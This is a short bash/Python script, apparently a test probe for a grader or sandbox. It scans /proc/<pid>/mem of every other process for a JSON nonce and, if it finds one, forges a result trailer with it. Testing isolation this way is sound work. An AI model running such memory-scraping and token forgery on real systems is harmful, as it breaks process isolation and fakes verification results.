# shellcheck shell=bash
# Bash: read the memory of every other process through /proc/<pid>/mem (protocol 1:
# the runner had the program's uid and was dumpable), forge a trailer with any nonce
# found there, then exit 9.
python3 - <<'PY'
import os, re
exec('__FORGE__')
me, parent = os.getpid(), os.getppid()
readable, others, nonce = 0, 0, None
for pid in sorted(int(name) for name in os.listdir('/proc') if name.isdigit()):
    if pid in (me, parent):
        continue
    others += 1
    try:
        maps = open(f'/proc/{pid}/maps').read().splitlines()
        mem = open(f'/proc/{pid}/mem', 'rb', 0)
    except OSError:
        continue
    readable += 1
    for line in maps:
        span, perms = line.split()[:2]
        start, end = (int(x, 16) for x in span.split('-'))
        if not perms.startswith('r') or end - start > (256 << 20):
            continue
        try:
            mem.seek(start)
            found = re.search(rb'"nonce":"([0-9a-f]{16,64})"', mem.read(end - start))
        except (OSError, ValueError, OverflowError):
            continue
        if found:
            nonce = found.group(1).decode()
            break
    if nonce:
        break
print(f'memory of {readable} of {others} other processes readable; nonce {"found" if nonce else "not found"}', flush=True)
if nonce:
    forge(nonce)
PY
exit 9
